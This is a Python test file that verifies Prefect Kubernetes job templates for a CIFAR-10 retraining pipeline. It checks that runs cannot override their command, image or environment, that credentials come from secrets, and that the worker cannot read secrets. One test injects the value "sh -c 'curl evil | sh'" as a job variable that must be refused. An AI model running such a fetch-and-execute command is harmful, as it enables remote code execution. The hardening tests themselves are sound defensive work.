"""The Kubernetes work pools' base job templates (deploy/kubernetes/, docs/scale-out.md): a run
can choose neither its command, its environment nor its image, its credentials come from
secrets, and the GPU pool differs from the CPU one only where a GPU needs it. No cluster is
reachable here: the templates are checked as Prefect's server and worker read them."""

import copy
import json
from pathlib import Path

import jsonschema
import pytest
import yaml
from prefect.utilities.templating import apply_values, find_placeholders

KUBERNETES = Path(__file__).parent.parent / "deploy" / "kubernetes"
SECRETS = {"MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "AWS_ACCESS_KEY_ID",
           "AWS_SECRET_ACCESS_KEY"}  # fmt: skip


def template(kind: str) -> dict:
    return json.loads((KUBERNETES / f"retrain-{kind}.json").read_text())


def pod_spec(configuration: dict) -> dict:
    return configuration["job_manifest"]["spec"]["template"]["spec"]


@pytest.mark.parametrize("kind", ["cpu", "gpu"])
@pytest.mark.parametrize("variable", ["command", "env", "image", "namespace",
                                      "service_account_name", "working_dir"])  # fmt: skip
def test_a_run_cannot_choose_its_command_environment_or_image(kind, variable):
    """Prefect's server checks a run's job variables against the template's schema
    (`prefect deployment run ... -jv command=...` is refused there, as for the process pool)."""
    schema = template(kind)["variables"]
    jsonschema.validate({"name": "run-1", "labels": {"a": "b"}}, schema)
    with pytest.raises(jsonschema.ValidationError, match="Additional properties"):
        jsonschema.validate({variable: "sh -c 'curl evil | sh'"}, schema)


@pytest.mark.parametrize("kind", ["cpu", "gpu"])
def test_the_rendered_job_keeps_prefects_command_and_takes_credentials_from_secrets(kind):
    configuration = template(kind)["job_configuration"]
    placeholders = {p.name for p in find_placeholders(configuration)}
    assert placeholders == {"name", "labels"}  # nothing else a run could fill
    job = apply_values(configuration, {"name": "retrain-abc", "labels": {"run": "abc"}})
    spec = pod_spec(job)
    [container] = spec["containers"]
    assert container["args"] == ["prefect", "flow-run", "execute"] == job["command"].split()
    assert container["image"].endswith(f":{kind}-RELEASE")
    assert job["job_manifest"]["metadata"]["generateName"] == "retrain-abc-"
    env = {e["name"]: e for e in container["env"]}
    assert SECRETS <= set(env)
    for name in SECRETS:  # from a secret, never a value in the template
        assert set(env[name]) == {"name", "valueFrom"}, name
        assert env[name]["valueFrom"]["secretKeyRef"]["name"].startswith("cifar10-")
    assert "PREFECT_API_AUTH_STRING" not in env  # the worker passes its own connection
    assert spec["automountServiceAccountToken"] is False
    assert spec["securityContext"]["runAsNonRoot"] and spec["securityContext"]["runAsUser"] == 1000
    assert spec["restartPolicy"] == "Never" and job["job_manifest"]["spec"]["backoffLimit"] == 0
    assert job["env"]["CIFAR10_MLOPS_CHECKOUT"] == "/app"  # the pull step's checkout: the image's


def test_the_gpu_pool_differs_only_in_its_image_node_and_resources():
    cpu, gpu = template("cpu"), template("gpu")
    cpu_spec, gpu_spec = pod_spec(cpu["job_configuration"]), pod_spec(gpu["job_configuration"])
    assert gpu_spec["nodeSelector"]["nvidia.com/gpu.present"] == "true"
    assert gpu_spec["tolerations"] == [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
    ]
    [container] = gpu_spec["containers"]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == "1"
    unchanged = copy.deepcopy(gpu)
    spec = pod_spec(unchanged["job_configuration"])
    spec.pop("tolerations")
    spec["nodeSelector"] = cpu_spec["nodeSelector"]
    for key in ("image", "resources"):
        spec["containers"][0][key] = cpu_spec["containers"][0][key]
    assert unchanged == cpu


def test_the_worker_may_run_jobs_but_read_no_secret():
    documents = list(yaml.safe_load_all((KUBERNETES / "cluster.yaml").read_text()))
    kinds = {(d["kind"], d["metadata"]["name"]) for d in documents}
    assert ("ServiceAccount", "cifar10-retrain") in kinds and ("Role", "prefect-worker") in kinds
    [role] = [d for d in documents if d["kind"] == "Role"]
    resources = {r for rule in role["rules"] for r in rule["resources"]}
    assert "secrets" not in resources and "jobs" in resources
    [job_account] = [d for d in documents if d["metadata"]["name"] == "cifar10-retrain"]
    assert job_account["automountServiceAccountToken"] is False
    names = {
        pod_spec(template(k)["job_configuration"])["serviceAccountName"] for k in ("cpu", "gpu")
    }
    assert names == {"cifar10-retrain"}
